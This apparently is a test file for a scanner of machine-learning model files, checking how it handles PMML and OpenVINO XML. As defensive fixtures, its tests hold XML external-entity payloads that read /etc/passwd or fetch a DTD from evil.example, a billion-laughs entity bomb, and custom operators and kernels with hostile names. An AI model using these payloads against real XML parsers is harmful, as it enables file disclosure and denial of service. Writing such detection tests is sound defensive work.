import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { bytes } from '../../../../../test/corpus/model-scanner/build-bytes.ts';
import { artefactOf, codesOf, reportOf } from '../../../../../test/corpus/model-scanner/read-artefact.ts';
import { parseDoctype } from './doctype.ts';

const report = (text: string, name = 'model.xml') => reportOf(new TextEncoder().encode(text), name);
const facts = (text: string, name = 'model.xml') => artefactOf(new TextEncoder().encode(text), name);

/** After the regression example of the PMML 4.4 documentation, with an extension as R's pmml package writes it. */
const pmml = (more = '', fields = 2) => `<?xml version="1.0" encoding="UTF-8"?>
${more}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
  <Header copyright="DMG.org"><Extension name="user" value="somebody" extender="Rattle/PMML"/><Application name="SkLearn2PMML" version="0.90"/></Header>
  <DataDictionary numberOfFields="${fields}">
    <DataField name="age" optype="continuous" dataType="double"/>
    <DataField name="claims" optype="continuous" dataType="integer"/>
  </DataDictionary>
  <TransformationDictionary>
    <DefineFunction name="own" optype="continuous"><ParameterField name="x"/><Apply function="ln"><FieldRef field="x"/></Apply></DefineFunction>
    <DerivedField name="d" optype="continuous" dataType="double"><Apply function="own"><Apply function="x-expm1"><FieldRef field="age"/></Apply></Apply></DerivedField>
  </TransformationDictionary>
  <RegressionModel modelName="m" functionName="regression"><RegressionTable intercept="1"/></RegressionModel>
</PMML>
`;

test('an ordinary PMML model is clean, and what it is stands in the facts', () => {
  const { verdict, format, role, metadata } = report(pmml());
  assert.equal(verdict, 'clean');
  assert.equal(format, 'pmml');
  assert.equal(role, 'model');
  assert.deepEqual(metadata, { version: '4.4', producer: 'SkLearn2PMML', fields: 2, models: 'RegressionModel', extensions: 1 });
});

test('a wrong count of fields breaks the format', () => {
  assert.deepEqual(codesOf(facts(pmml('', 3))), ['pmml-count']);
});

test('functions that nobody defines are code of somebody else, with line', () => {
  const text = pmml().replace('function="x-expm1"', 'function="com.evil.Payload"');
  const found = report(text).findings[0];
  assert.equal(found?.ruleId, 'custom-operator');
  assert.equal(found?.where.line, 10);
  assert.match(found?.why ?? '', /Java class/);
});

test('a DOCTYPE in a model is a finding; entities are named and never expanded', () => {
  const external = report(pmml('<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'));
  assert.equal(external.verdict, 'suspicious');
  const entity = external.findings.find(({ ruleId }) => ruleId === 'xml-entity');
  assert.equal(entity?.effect, 'fs-read');
  assert.ok(external.findings.some(({ evidence }) => evidence.startsWith('xml-doctype')));
  assert.equal(report(pmml('<!DOCTYPE PMML>\n')).verdict, 'risky');
  const remote = report(pmml("<!DOCTYPE PMML [<!ENTITY % p PUBLIC 'id' 'http://evil.example/x.dtd'> %p;]>\n"));
  assert.equal(remote.findings.find(({ ruleId }) => ruleId === 'xml-entity')?.effect, 'net');
});

test('entities that multiply are a proved bomb', () => {
  const lines = ['<!ENTITY a0 "0123456789">'];
  for (let i = 1; i < 12; i++) lines.push(`<!ENTITY a${i} "${`&a${i - 1};`.repeat(10)}">`);
  const started = performance.now();
  for (const text of [
    pmml(`<!DOCTYPE PMML [${lines.join('\n')}]>\n`),
    `<?xml version="1.0"?>\n<!DOCTYPE lolz [${lines.join('\n')}]>\n<lolz>&a11;</lolz>`,
  ]) {
    const found = report(text).findings.find(({ ruleId }) => ruleId === 'resource-bomb');
    assert.equal(found?.certainty, 'proved');
  }
  assert.ok(performance.now() - started < 2000);
});

test('what entities grow to is added up: ten times ten of ten characters and their references', () => {
  const { expanded, isCircular, entities } = parseDoctype(' r [<!ENTITY a "0123456789"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;&b;">]');
  // a: 10; b: 6 characters of references + 2 × 10; c: 9 + 3 × 26.
  assert.equal(expanded, 9 + 3 * 26);
  assert.equal(isCircular, false);
  assert.equal(entities.length, 3);
  assert.equal(parseDoctype(' r [<!ENTITY a "&b;"><!ENTITY b "&a;">]').isCircular, true);
});

test('a DOCTYPE without entities in XML of other kinds is ordinary', () => {
  const plist =
    '<?xml version="1.0"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict/></plist>';
  assert.deepEqual(report(plist, 'Info.plist').findings, []);
  assert.deepEqual(report('<!DOCTYPE html>\n<html><body>PMML</body></html>', 'index.html').findings, []);
  assert.equal(report('<svg xmlns="http://www.w3.org/2000/svg"/>', 'a.svg').role, null);
});

test('entities that nobody reads, and character tables of standards bodies, are ordinary in other XML', () => {
  const document = (declaration: string) => `<?xml version="1.0"?>\n<!DOCTYPE d [${declaration}]>\n<d/>`;
  for (const ordinary of [
    '<!ENTITY pic SYSTEM "/pictures/earth.gif" NDATA gif>',
    '<!ENTITY chapter SYSTEM "chapter.xml">',
    '<!ENTITY % l PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent">',
    '<!ENTITY nbsp "&#160;">',
  ])
    assert.deepEqual(report(document(ordinary), 'd.xml').findings, [], ordinary);
  assert.equal(report(document('<!ENTITY x SYSTEM "../../../etc/passwd">'), 'd.xml').verdict, 'suspicious');
});

test('XML in other encodings is XML', () => {
  const latin = bytes('<?xml version="1.0" encoding="iso-8859-1"?>\n<a>\u00e4\u00f6</a>');
  assert.equal(artefactOf(latin, 'a.xml').format, 'xml');
  assert.deepEqual(artefactOf(latin, 'a.xml').unread, []);
});

test('a page in another encoding that is no XML after all is nothing to judge', () => {
  const { findings, unread } = reportOf(bytes('<?xml version="1.0" encoding="koi8-r"?>\n<a><b>\u00c4</a>'), 'feed.xml');
  assert.deepEqual([findings, unread], [[], []]);
});

test('XML in UTF-16 is read too', () => {
  const text = pmml('<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n').replace('UTF-8', 'UTF-16');
  const little = bytes([0xff, 0xfe], Buffer.from(text, 'utf16le'));
  assert.ok(reportOf(little, 'm.xml').findings.some(({ ruleId }) => ruleId === 'xml-entity'));
  const big = bytes([0xfe, 0xff], Buffer.from(text, 'utf16le').swap16());
  assert.ok(reportOf(big, 'm.xml').findings.some(({ ruleId }) => ruleId === 'xml-entity'));
});

/* ——— OpenVINO ——— */
/** As the model converter writes a constant and a product. */
const openvino = ({ shape = '64, 3', size = '768', set = 'opset1' } = {}) => `<?xml version="1.0"?>
<net name="Model0" version="11">
	<layers>
		<layer id="0" name="x" type="Parameter" version="opset1"><data shape="?,3" element_type="f32"/><output><port id="0" precision="FP32"><dim>-1</dim><dim>3</dim></port></output></layer>
		<layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" shape="${shape}" offset="0" size="${size}"/></layer>
		<layer id="2" name="y" type="MatMul" version="${set}"><data transpose_a="false" transpose_b="true"/></layer>
	</layers>
	<edges><edge from-layer="0" from-port="0" to-layer="2" to-port="0"/></edges>
	<rt_info><MO_version value="2026.0"/></rt_info>
</net>
`;

test('an ordinary topology is clean and names the file of its weights', () => {
  const read = report(openvino());
  assert.equal(read.verdict, 'clean');
  assert.deepEqual(read.companions, ['model.bin']);
  // 64 × 3 values of four bytes.
  assert.deepEqual(read.metadata, { name: 'Model0', version: '11', layers: 3, parameters: 192, weightsBytes: 768 });
});

test('a constant whose shape needs other bytes than it is given is a lie', () => {
  assert.deepEqual(codesOf(facts(openvino({ size: '764' }))), ['openvino-size']);
  assert.deepEqual(codesOf(facts(openvino({ shape: '99999999, 99999999' }))), ['openvino-size']);
  assert.deepEqual(codesOf(facts(openvino({ size: '-1' }))), ['openvino-range']);
});

test('a layer of another set needs an extension, and kernels of custom layers are named', () => {
  assert.equal(report(openvino({ set: 'extension' })).verdict, 'risky');
  assert.equal(report(openvino({ set: 'acme_ops' })).findings[0]?.ruleId, 'custom-operator');
  const kernels =
    '<CustomLayer name="ReLU" type="SimpleGPU" version="1"><Kernel entry="k"><Source filename="../../tmp/evil.cl"/></Kernel></CustomLayer>';
  assert.equal(report(kernels).verdict, 'malicious');
});

test('XML that is cut or broken keeps its facts and is not read to the end', () => {
  const cut = report(pmml().slice(0, 700));
  assert.equal(cut.format, 'pmml');
  assert.ok(cut.unread.length > 0);
  assert.ok(report(`<PMML>${'<a>'.repeat(2000)}`).unread.length > 0);
});

test('changed files never throw', () => {
  const files = [pmml('<!DOCTYPE PMML [<!ENTITY a "&b;"><!ENTITY b SYSTEM "x">]>\n'), openvino()];
  fc.assert(
    fc.property(
      fc.constantFrom(...files),
      fc.nat(),
      fc.constantFrom('<', '>', '&', '"', '!', '[', ']', '/', '\0', 'é'),
      (file, place, character) => {
        const at = place % file.length;
        const { unread } = report(file.slice(0, at) + character + file.slice(at + 1));
        assert.ok(unread.every(({ detail }) => !/TypeError|RangeError/.test(detail)));
      },
    ),
    { numRuns: 300, seed: 9 },
  );
});
